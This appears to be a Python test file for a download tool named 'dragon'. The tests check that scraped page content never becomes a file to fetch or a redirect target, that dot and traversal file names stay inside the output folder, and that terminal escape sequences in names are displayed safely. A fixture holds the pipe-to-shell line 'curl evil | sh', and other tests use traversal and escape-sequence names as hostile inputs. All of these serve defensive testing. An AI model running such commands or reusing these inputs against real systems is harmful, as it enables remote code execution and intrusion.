"""What a task read from its sources is data, never a file to fetch or a place to send
people (issue 26, item 8): only the files a task stored are its outputs, for ``dragon
download`` and for ``/v1/create_file``'s redirects.
"""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import unquote, urlencode, urlsplit

import pytest

from tests.e2e.test_create_file import fetch
from tests.support.server import Server, dragon


def cli(server: Server, *args: str, cwd: Path | None = None) -> subprocess.CompletedProcess:
    env = {"DRAGON_URL": server.url, "DRAGON_SECRET": server.secret}
    if cwd is None:
        return dragon(*args, env=env, check=False)
    return subprocess.run(
        [sys.executable, "-m", "dragon", *args],
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(Path.cwd()), **env},
        cwd=cwd,
        check=False,
    )


def lines(out: str) -> list:
    return [json.loads(line) for line in out.splitlines() if line.strip()]


@pytest.fixture
def hostile_page(origin):
    """A page whose title is the URL of a file its author wants written as ``.bashrc``."""
    payload = origin.add("trusted/.bashrc", b"curl evil | sh\n", "text/plain")
    page = f"<html><head><title>{payload}</title></head><body>hi</body></html>"
    return origin.add("trusted/page.html", page.encode(), "text/html"), payload


def test_download_never_fetches_a_url_the_page_wrote(dragon_server, hostile_page, tmp_path):
    page, payload = hostile_page
    [status] = dragon_server.create([{"task_name": "html.scrape", "url": page}])
    assert status["status"] == "success" and status["result"]["page_title"] == payload
    done = cli(dragon_server, "download", status["key"], cwd=tmp_path)
    assert done.returncode == 1, (done.stdout, done.stderr)
    assert "has no output files" in done.stderr
    assert list(tmp_path.iterdir()) == []  # no ./.bashrc


def test_create_file_redirects_only_to_stored_outputs(dragon_server, hostile_page):
    page, payload = hostile_page
    query = {"task_name": "html.scrape", "url": page, "secret": dragon_server.secret}
    status, headers, body = fetch(f"{dragon_server.url}/v1/create_file/x?{urlencode(query)}")
    assert status == 404 and b"no output file" in body, (status, headers.get("Location"))
    # Asked again, the cached task answers the same.
    status, headers, _ = fetch(f"{dragon_server.url}/v1/create_file/x?{urlencode(query)}")
    assert status == 404, headers.get("Location")


def test_download_still_saves_every_stored_output(dragon_server, tmp_path):
    [status] = dragon_server.create(
        [{"task_name": "test.file", "text": "both", "names": ["first", "second"]}]
    )
    done = cli(dragon_server, "download", status["key"], "--to", str(tmp_path))
    assert done.returncode == 0, done.stderr
    saved = lines(done.stdout)
    assert [s["name"] for s in saved] == ["first", "second"]
    assert all(Path(s["path"]).read_text() == "both" for s in saved)


def test_dot_names_are_saved_visible_and_none_is_skipped(dragon_server, tmp_path):
    """Outputs named ``..``, ``.`` or ``.bashrc`` are saved (``..`` and ``.`` were asked
    of ``/v2/file`` as dot segments, which the HTTP client resolved away, and were skipped
    without a word) and never as hidden files or outside the folder."""
    names = ["..", ".", ".bashrc", "../.profile"]
    [status] = dragon_server.create([{"task_name": "test.file", "text": "x", "names": names}])
    folder = tmp_path / "out"
    done = cli(dragon_server, "download", status["key"], "--to", str(folder))
    assert done.returncode == 0, done.stderr
    saved = lines(done.stdout)
    assert [s["name"] for s in saved] == names, (saved, done.stderr)
    paths = [Path(s["path"]) for s in saved]
    assert all(p.parent == folder and not p.name.startswith(".") for p in paths), paths
    assert sorted(p.name for p in folder.iterdir()) == sorted(p.name for p in paths)
    assert list(tmp_path.iterdir()) == [folder]


def test_a_hostile_output_name_is_shown_as_text_on_a_terminal(dragon_server, tmp_path):
    """Rich markup and escape sequences in an output name are neither run nor a traceback."""
    name = "[/]\x1b]0;owned\x07[bold red]x"
    [status] = dragon_server.create([{"task_name": "test.file", "names": [name]}])
    leader, follower = pty.openpty()
    env = {**os.environ, "DRAGON_URL": dragon_server.url, "DRAGON_SECRET": dragon_server.secret}
    proc = subprocess.Popen(
        [sys.executable, "-m", "dragon", "download", status["key"], "--to", str(tmp_path)],
        stdout=subprocess.PIPE,
        stderr=follower,
        env={**env, "TERM": "xterm-256color", "COLUMNS": "120"},
    )
    os.close(follower)
    screen = bytearray()

    def read_terminal():
        try:
            while chunk := os.read(leader, 4096):
                screen.extend(chunk)
        except OSError:
            pass  # the terminal closed with the process

    reader = threading.Thread(target=read_terminal)
    reader.start()
    out, _ = proc.communicate(timeout=60)
    reader.join(10)
    os.close(leader)
    drawn = screen.decode(errors="replace")
    assert proc.returncode == 0, drawn
    assert "Traceback" not in drawn and "\x1b]0;owned" not in drawn
    [saved] = lines(out.decode())
    assert saved["name"] == name and Path(saved["path"]).read_text() == "hello file"


class FakeDragon:
    """A server answering the client's status and ``/v2/file`` requests for one task whose
    stored outputs have awkward file names (a plugin store could make them so)."""

    def __init__(self, files: dict[str, tuple[str, bytes]]) -> None:
        """``files``: output name -> (path of its URL, bytes)."""
        fake = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def _send(self, status: int, body: bytes, **headers: str) -> None:
                self.send_response(status)
                for k, v in {"Content-Length": str(len(body)), **headers}.items():
                    self.send_header(k, v)
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self):
                self.rfile.read(int(self.headers["Content-Length"]))
                result = {name: fake.url + path for name, (path, _) in files.items()}
                doc = [{"key": "K", "status": "success", "result": result}]
                self._send(200, json.dumps(doc).encode(), **{"Content-Type": "application/json"})

            def do_GET(self):
                parts = urlsplit(self.path)
                if parts.path.startswith("/v2/file/"):
                    name = unquote(parts.path.removeprefix("/v2/file/"))
                    path = files[name][0]
                    self._send(302, b"", Location=fake.url + path)
                    return
                body = next(data for path, data in files.values() if path == parts.path)
                self._send(200, body, **{"Content-Type": "application/octet-stream"})

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()


def test_outputs_with_one_file_name_or_a_long_one_are_all_saved(tmp_path):
    long_name = "x" * 300 + ".bin"
    fake = FakeDragon(
        {
            "first": ("/a/out.bin", b"first"),
            "second": ("/b/out.bin", b"second"),
            "long": (f"/c/{long_name}", b"long"),
        }
    )
    try:
        env = {"DRAGON_URL": fake.url, "DRAGON_SECRET": "s"}
        done = dragon("download", "K", "--to", str(tmp_path), env=env, check=False)
        assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
        saved = {s["name"]: Path(s["path"]) for s in lines(done.stdout)}
        # Named after the outputs they hold (not the URLs' shared "out.bin").
        assert saved["first"].name == "first.bin" and saved["second"].name == "second.bin"
        assert [saved[n].read_bytes() for n in ("first", "second", "long")] == [
            b"first",
            b"second",
            b"long",
        ]
        assert saved["long"].name == "long.bin"
    finally:
        fake.httpd.shutdown()
